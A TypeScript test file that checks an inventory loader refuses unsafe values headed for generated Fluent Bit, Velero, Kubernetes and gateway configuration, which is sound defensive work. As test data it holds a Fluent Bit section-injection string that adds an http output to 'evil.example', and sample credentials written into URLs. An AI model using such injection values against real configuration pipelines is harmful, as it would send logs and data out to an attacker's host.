/**
 * Strict formats for the inventory strings that land in generated configuration (Fluent Bit,
 * Velero, Kubernetes objects, gateway routes): a line break, a control character, plain http,
 * credentials in a URL, a public supernet, a CPU of "lots", an IP address as a domain or a cron
 * feature the backup tools lack is an error at its path. Each case starts from the valid
 * fixture and changes one value.
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { parse, stringify } from "yaml";
import { formatPath, loadInventoryFromString, type PathSegment } from "../../inventory";
import { isValidCron } from "../../inventory/primitives";

const VALID = join(__dirname, "../fixtures/inventory/valid/region.yaml");
const TODAY = "2026-11-23";
const data = parse(readFileSync(VALID, "utf8")) as Record<string, unknown>;

function setAt(root: unknown, path: PathSegment[], value: unknown): unknown {
  const copy = structuredClone(root) as Record<string | number, unknown>;
  let node = copy;
  for (const seg of path.slice(0, -1)) node = node[seg] as Record<string | number, unknown>;
  node[path[path.length - 1]] = value;
  return copy;
}

/**
 * The paths (as `formatPath` writes them) of the errors when `path` is set to `value`. A control
 * character the YAML text holds raw is refused by the text screen at its line and column: that
 * error counts as one at `path`.
 */
function errorPaths(path: PathSegment[], value: unknown): string[] {
  const result = loadInventoryFromString(stringify(setAt(data, path, value)), "f.yaml", { today: TODAY });
  if (result.ok) return [];
  return result.errors.map((e) => (e.en.startsWith("control character") ? formatPath(path) : e.path));
}

function stringLeaves(
  value: unknown,
  path: PathSegment[] = [],
): Array<{ path: PathSegment[]; value: string }> {
  if (typeof value === "string") return [{ path, value }];
  if (value === null || typeof value !== "object") return [];
  const entries = Array.isArray(value) ? value.map((v, i) => [i, v] as const) : Object.entries(value);
  return entries.flatMap(([k, v]) => stringLeaves(v, [...path, k]));
}

const drc = (data.sites as Array<Record<string, unknown>>).findIndex((s) => s.objectStorage);

describe("strings that land in generated files", () => {
  it("the fixture is valid as it stands", () => {
    expect(loadInventoryFromString(stringify(data), "f.yaml", { today: TODAY }).ok).toBe(true);
  });

  it("refuses a line break or control character in every string of the inventory, at its path", () => {
    const leaves = stringLeaves(data);
    expect(leaves.length).toBeGreaterThan(50);
    const accepted: string[] = [];
    for (const { path, value } of leaves) {
      for (const junk of ["\n[OUTPUT]\n    Name http", "\u001b[2J"]) {
        if (!errorPaths(path, `${value}${junk}`).includes(formatPath(path)))
          accepted.push(`${formatPath(path)} + ${JSON.stringify(junk)}`);
      }
    }
    expect(accepted).toEqual([]);
  });

  it("refuses the Fluent Bit section injection through objectStorage.region", () => {
    const path = ["sites", drc, "objectStorage", "region"];
    expect(errorPaths(path, "id-1\n[OUTPUT]\n    Name  http\n    Host  evil.example")).toContain(
      formatPath(path),
    );
    expect(errorPaths(path, "us-east-1")).toEqual([]);
  });

  it.each([
    ["plain http", "http://s3.drc-1.example.go.id"],
    ["user:password in the URL", "https://minio:rahasia@s3.drc-1.example.go.id"],
    ["a user in the URL", "https://admin@s3.drc-1.example.go.id"],
    ["a query", "https://s3.drc-1.example.go.id/?x=1"],
    ["a space", "https://s3.drc-1.example.go.id/a b"],
    ["a public IP address", "https://8.8.8.8"],
  ])("refuses %s in an object storage endpoint", (_, url) => {
    const path = ["sites", drc, "objectStorage", "endpoint"];
    expect(errorPaths(path, url)).toContain(formatPath(path));
  });

  it("accepts https endpoints with a port and a path, and a private address", () => {
    const path = ["sites", drc, "objectStorage", "endpoint"];
    for (const url of ["https://s3.drc-1.example.go.id:9000", "https://10.20.0.5:9000/minio"])
      expect(errorPaths(path, url), url).toEqual([]);
  });

  it("refuses an http gateway upstream", () => {
    const path = ["gateway", "upstreams", 0, "url"];
    expect(errorPaths(path, "http://splp.example.go.id")).toContain(formatPath(path));
  });

  it.each(["0.0.0.0/0", "8.8.0.0/16", "172.32.0.0/16", "10.0.0.0/7", "100.128.0.0/16"])(
    "refuses the non-private supernet %s",
    (cidr) => {
      expect(errorPaths(["network", "supernet"], cidr)).toContain("network.supernet");
    },
  );

  it("accepts RFC 6598 shared address space as a supernet", () => {
    const result = errorPaths(["network", "supernet"], "100.64.0.0/16");
    expect(result).not.toContain("network.supernet");
  });

  it.each(["lots", "-1", "0", "1.2.3", "500 m", "2e3"])("refuses the CPU %s", (cpu) => {
    const path = ["applications", 0, "resources"];
    expect(errorPaths(path, { cpu })).toContain("applications[0].resources.cpu");
  });

  it.each(["lots", "512MB", "0", "1.5Gi"])("refuses the memory %s", (memory) => {
    const path = ["applications", 0, "resources"];
    expect(errorPaths(path, { memory })).toContain("applications[0].resources.memory");
  });

  it.each(["10.20.0.5", "192.168.1.1", "simpeg", "simpeg.contohkab.go.id."])(
    "refuses %s as an application domain",
    (domain) => {
      const apps = data.applications as Array<Record<string, unknown>>;
      const i = apps.findIndex((a) => a.domain);
      expect(errorPaths(["applications", i, "domain"], domain)).toContain(`applications[${i}].domain`);
    },
  );

  it("refuses a Docker host with a password, and a Kubernetes context with a line break", () => {
    expect(
      errorPaths(["sites", drc, "platform", "host"], "ssh://ops:rahasia@drc-1.contohkab.go.id"),
    ).toContain(`sites[${drc}].platform.host`);
    expect(errorPaths(["sites", 0, "platform", "context"], "pd\nutama")).toContain(
      "sites[0].platform.context",
    );
  });

  it("refuses a gateway service path with .. or an empty segment", () => {
    for (const path of ["/a/../b", "/a//b", "/./a"])
      expect(errorPaths(["gateway", "services", 0, "path"], path), path).toContain(
        "gateway.services[0].path",
      );
  });
});

describe("backup schedules the backup tools can run (robfig/cron, five fields)", () => {
  it.each([
    "0 1 * * *",
    "*/15 * * * *",
    "30 2 1,15 * *",
    "0 3 * * MON-FRI",
    "0 0 ? * SUN",
    "0 4 1 JAN *",
    "5-10/5 0 * * 0",
  ])("accepts %s", (cron) => expect(isValidCron(cron)).toBe(true));

  it.each([
    ["seconds", "0 0 1 * * *"],
    ["a year", "0 1 * * * 2027"],
    ["L (last day)", "0 1 L * *"],
    ["W (weekday)", "0 1 15W * *"],
    ["# (nth weekday)", "0 1 * * 5#3"],
    ["7 for Sunday", "0 1 * * 7"],
    ["an hour of 24", "0 24 * * *"],
    ["a zero step", "*/0 * * * *"],
    ["? in the minute field", "? 1 * * *"],
    ["a descriptor", "@daily"],
    ["two spaces", "0  1 * * *"],
  ])("refuses %s", (_, cron) => expect(isValidCron(cron)).toBe(false));
});
